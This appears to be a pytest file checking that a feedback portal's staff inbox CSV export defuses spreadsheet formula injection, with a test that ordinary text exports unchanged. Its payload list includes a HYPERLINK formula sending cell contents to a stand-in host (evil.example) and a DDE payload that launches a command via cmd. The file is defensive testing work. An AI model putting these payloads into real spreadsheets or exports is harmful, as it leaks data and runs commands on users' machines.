"""The inbox CSV export never hands a spreadsheet a live formula (OWASP CSV injection)."""

import csv
import io

import pytest

from portal.store.core.tables import Feedback
from tests.factories import create_feedback, create_service
from tests.review.staff import create_staff, signed_in

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")", "+33 1 23", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\tTAB=1+1", "\rCR=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
async def test_cells_that_a_spreadsheet_would_evaluate_are_neutralised(client, text):
    service = await create_service()
    agent = await create_staff("agent", services=[service])
    item = (await create_feedback(service, text="placeholder")).feedback_id
    # Stored as typed (intake may tidy whitespace): the export is what must defend itself.
    await Feedback.update({Feedback.redacted_text: text, Feedback.topics: "=1+2"}).where(Feedback.id == item)
    await signed_in(client, agent)
    response = await client.get("/staff/inbox.csv")
    assert response.status_code == 200
    [header, row] = list(csv.reader(io.StringIO(response.text)))
    cells = dict(zip(header, row))
    assert cells["redacted_text"] == "'" + text
    assert cells["topics"] == "'=1+2"
    for value in row:
        assert not value or value[0] not in "=+-@\t\r", value


async def test_ordinary_cells_are_exported_unchanged(client):
    service = await create_service()
    agent = await create_staff("agent", services=[service])
    await create_feedback(service, text="Très bien, merci = parfait", rating=4)
    await signed_in(client, agent)
    [header, row] = list(csv.reader(io.StringIO((await client.get("/staff/inbox.csv")).text)))
    cells = dict(zip(header, row))
    assert cells["redacted_text"] == "Très bien, merci = parfait" and cells["rating"] == "4"
    assert cells["received_at"][:2] == "20"
